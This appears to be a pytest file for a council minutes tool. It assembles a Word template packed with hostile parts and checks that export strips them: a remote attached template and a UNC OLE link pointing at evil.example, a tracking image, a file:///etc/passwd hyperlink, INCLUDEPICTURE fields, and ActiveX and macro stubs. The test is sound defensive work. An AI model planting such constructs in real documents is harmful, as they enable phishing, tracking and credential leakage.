"""Templates that would carry remote links, macros, ActiveX or hidden data into published minutes.

Each hostile template is a real Word document (python-docx) with the hostile parts added
through zipfile, exported through the real command line. The export must leave out every
outside link, macro, ActiveX control and custom data, say so in one warning, and keep what
the minutes need: styles, numbering, headers and footers, embedded pictures, page setup.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from docx import Document
from docx.shared import Cm

from clerkdesk.export.word_template import default_template, open_template
from tests.core.test_cli import clerkdesk

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "evil.example"


def _png() -> bytes:
    """A 1x1 red PNG, the council's "logo"."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def _council_template() -> bytes:
    """A council template made with python-docx: a logo in the header, A4 landscape-ish margins, a bullet list."""
    doc = Document(str(default_template()))
    section = doc.sections[0]
    section.left_margin, section.right_margin = Cm(3.1), Cm(1.7)
    section.header.paragraphs[0].add_run().add_picture(io.BytesIO(_png()), width=Cm(2))
    doc.add_paragraph("Council logo above; a list below.")
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def _add_rel(rels: bytes, rid: str, kind: str, target: str, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return rels.replace(b"</Relationships>", f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'
                        f"</Relationships>".encode())


def _override(types: bytes, part: str, content_type: str) -> bytes:
    return types.replace(b"</Types>", f'<Override PartName="{part}" ContentType="{content_type}"/></Types>'.encode())


def _in_body(document: bytes, xml: str) -> bytes:
    return re.sub(rb"(<w:body>)", lambda m: m.group(1) + xml.encode(), document, count=1)


def hostile_template() -> dict[str, bytes]:
    """Every hostile thing at once, in one council template."""
    parts = {}
    with zipfile.ZipFile(io.BytesIO(_council_template())) as z:
        for name in z.namelist():
            parts[name] = z.read(name)
    doc_rels = "word/_rels/document.xml.rels"
    # A remote attached template, as a phishing template would have.
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
        b'"http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
    parts["word/_rels/settings.xml.rels"] = _add_rel(parts["word/_rels/settings.xml.rels"], "rIdT1",
                                                     f"{RT}/attachedTemplate", f"http://{EVIL}/normal.dotm", True)
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom ", b'<w:attachedTemplate r:id="rIdT1"/><w:zoom ', 1)
    assert b"attachedTemplate" in parts["word/settings.xml"]
    # An external image, a file:// hyperlink, an INCLUDEPICTURE field (simple and complex), ActiveX, OLE.
    parts[doc_rels] = _add_rel(parts[doc_rels], "rIdX1", f"{RT}/image", f"http://{EVIL}/pixel.png", True)
    parts[doc_rels] = _add_rel(parts[doc_rels], "rIdX2", f"{RT}/hyperlink", "file:///etc/passwd", True)
    parts[doc_rels] = _add_rel(parts[doc_rels], "rIdX3", f"{RT}/control", "activeX/activeX1.xml")
    parts[doc_rels] = _add_rel(parts[doc_rels], "rIdX4", "http://schemas.microsoft.com/office/2006/relationships/"
                               "vbaProject", "media/logo2.bin")
    parts[doc_rels] = _add_rel(parts[doc_rels], "rIdX5", f"{RT}/oleObject", f"\\\\{EVIL}\\share\\payload.xls", True)
    parts["word/_rels/document.xml.rels"] = parts[doc_rels]
    blip = ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
            'wordprocessingDrawing"><wp:extent cx="9525" cy="9525"/><wp:docPr id="90" name="tracker"/>'
            '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://'
            'schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
            'drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="90" name="tracker"/><pic:cNvPicPr/></pic:nvPicPr>'
            f'<pic:blipFill><a:blip xmlns:r="{R}" r:link="rIdX1"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
            '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/></a:xfrm><a:prstGeom prst="rect">'
            '<a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')
    link = f'<w:p><w:hyperlink xmlns:r="{R}" r:id="rIdX2"><w:r><w:t>Our policies</w:t></w:r></w:hyperlink></w:p>'
    simple = (f'<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "http://{EVIL}/simple.png" \\d \'><w:r><w:t>[picture]'
              '</w:t></w:r></w:fldSimple></w:p>')
    complex_field = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
                     f'INCLUDEPICTURE "http://{EVIL}/</w:instrText></w:r><w:r><w:instrText>complex.png" \\d '
                     '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Logo</w:t>'
                     '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    activex = (f'<w:p><w:r><w:object xmlns:r="{R}"><w:control r:id="rIdX3" w:name="CommandButton1"/></w:object>'
               '</w:r></w:p>')
    ole = (f'<w:p><w:r><w:object xmlns:r="{R}" xmlns:o="urn:schemas-microsoft-com:office:office">'
           '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" r:id="rIdX5"/></w:object></w:r></w:p>')
    vml = ('<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:'
           f'office:office" style="width:1pt;height:1pt"><v:imagedata o:href="http://{EVIL}/vml.png" '
           f'src="file://{EVIL}/share/vml.png"/></v:shape></w:pict></w:r></w:p>')
    parts["word/document.xml"] = _in_body(parts["word/document.xml"],
                                          blip + link + simple + complex_field + activex + ole + vml)
    parts["word/activeX/activeX1.xml"] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><ax:ocx xmlns:ax='
                                          b'"http://schemas.microsoft.com/office/2006/activeX" ax:classid='
                                          b'"{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStream" '
                                          b'r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
                                          b'2006/relationships"/>')
    parts["word/activeX/_rels/activeX1.xml.rels"] = _add_rel(
        parts["word/_rels/settings.xml.rels"].replace(b'<Relationship Id="rIdT1"', b'<Relationship Id="rIdZ"'),
        "rId1", "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary", "activeX1.bin")
    parts["word/activeX/activeX1.bin"] = b"\xd0\xcf\x11\xe0ACTIVEX-PAYLOAD"
    parts["word/media/logo2.bin"] = b"\xd0\xcf\x11\xe0MACRO-PAYLOAD Sub AutoOpen()"  # a VBA project by another name
    types = parts["[Content_Types].xml"]
    types = _override(types, "/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    types = types.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/octet-stream"/></Types>')
    # Custom document properties, with something a council would not publish.
    parts["docProps/custom.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties xmlns="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Reviewer">'
        b"<vt:lpwstr>SECRET-REVIEWER</vt:lpwstr></property></Properties>")
    types = _override(types, "/docProps/custom.xml", "application/vnd.openxmlformats-officedocument.custom-properties+xml")
    parts["_rels/.rels"] = _add_rel(parts["_rels/.rels"], "rIdC1", f"{RT}/custom-properties", "docProps/custom.xml")
    parts["[Content_Types].xml"] = types
    # A footer with a file:// hyperlink of its own, and a header field fetching a remote picture.
    footer = next(n for n in parts if re.fullmatch(r"word/footer\d*\.xml", n))
    footer_rels = f"word/_rels/{footer.split('/')[-1]}.rels"
    parts[footer_rels] = _add_rel(parts.get(footer_rels, parts["word/_rels/settings.xml.rels"].replace(
        b'<Relationship Id="rIdT1"', b'<Relationship Id="rIdQ"')), "rIdF1", f"{RT}/hyperlink",
        "file://server/share/minutes", True)
    parts[footer] = parts[footer].replace(b"</w:ftr>", f'<w:p><w:hyperlink xmlns:r="{R}" r:id="rIdF1"><w:r><w:t>'
                                          'Archive</w:t></w:r></w:hyperlink></w:p></w:ftr>'.encode())
    return parts


def write_template(tmp: Path, parts: dict[str, bytes], name: str = "council.docx") -> Path:
    path = tmp / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for part, data in parts.items():
            z.writestr(part, data)
    return path


@pytest.fixture
def sample_id(data_dir: Path) -> str:
    result = clerkdesk(data_dir, "sample")
    assert result.returncode == 0, result.stderr
    return result.stdout.strip()


def _dangling_references(z: zipfile.ZipFile) -> list[str]:
    """Every r:… attribute in an XML part that names no relationship of that part."""
    names = set(z.namelist())
    bad = []
    for name in names:
        if not name.endswith(".xml") or name.startswith("[") or "/_rels/" in name:
            continue
        folder, base = name.rsplit("/", 1) if "/" in name else ("", name)
        rels_name = f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels"
        ids = set(re.findall(rb'Id="([^"]+)"', z.read(rels_name))) if rels_name in names else set()
        for rid in re.findall(rb'\br:(?:id|embed|link|pict|href|dm|lo|qs|cs)="([^"]*)"', z.read(name)):
            if rid not in ids:
                bad.append(f"{name}: {rid.decode()}")
    return bad


def test_a_hostile_template_exports_without_anything_hostile(data_dir: Path, sample_id: str, tmp_path: Path) -> None:
    template = write_template(tmp_path, hostile_template())
    out = tmp_path / "minutes.docx"
    result = clerkdesk(data_dir, "export", sample_id, "--format", "docx", "--template", str(template), "--out", str(out))
    assert result.returncode == 0, result.stderr
    warnings = [line for line in result.stderr.splitlines() if "left out" in line]
    assert len(warnings) == 1, result.stderr
    for what in ("attached template", "outside", "macro", "ActiveX", "custom"):
        assert what in warnings[0], warnings[0]
    with zipfile.ZipFile(out) as z:
        everything = b"".join(z.read(n) for n in z.namelist())
        names = z.namelist()
        assert EVIL.encode() not in everything and b"file://" not in everything and b"/etc/passwd" not in everything
        assert b'TargetMode="External"' not in everything
        assert b"PAYLOAD" not in everything and b"SECRET-REVIEWER" not in everything
        assert b"INCLUDEPICTURE" not in everything.upper() and b"attachedTemplate" not in everything
        assert b"activeX" not in everything and b"vbaProject" not in everything and b"oleObject" not in everything
        assert not [n for n in names if n.startswith(("customXml/", "word/activeX/")) or "thumbnail" in n
                    or n == "docProps/custom.xml" or n.endswith(".bin")]
        assert _dangling_references(z) == []
        # What the minutes need is kept: the logo embedded in the header, styles, numbering, page setup.
        assert any(n.startswith("word/media/") and z.read(n) == _png() for n in names)
        assert "word/styles.xml" in names and any(n.startswith("word/numbering") for n in names)
    doc = Document(str(out))
    assert round(doc.sections[0].left_margin.cm, 1) == 3.1 and round(doc.sections[0].right_margin.cm, 1) == 1.7
    assert doc.sections[0].header.part.related_parts, "the header keeps its logo"
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "Our policies" in text and "Logo" in text and "[picture]" in text  # a link's words stay, as text
    assert "RESOLVED" in text


def test_the_house_template_exports_with_no_warning(data_dir: Path, sample_id: str, tmp_path: Path) -> None:
    out = tmp_path / "minutes.docx"
    result = clerkdesk(data_dir, "export", sample_id, "--format", "docx", "--out", str(out))
    assert result.returncode == 0 and "left out" not in result.stderr, result.stderr


def test_a_clean_council_template_gets_no_warning(tmp_path: Path) -> None:
    path = tmp_path / "council.docx"
    path.write_bytes(_council_template())
    warnings: list[str] = []
    open_template(path, warnings)
    assert [w for w in warnings if "left out" in w and ("outside" in w or "macro" in w)] == []
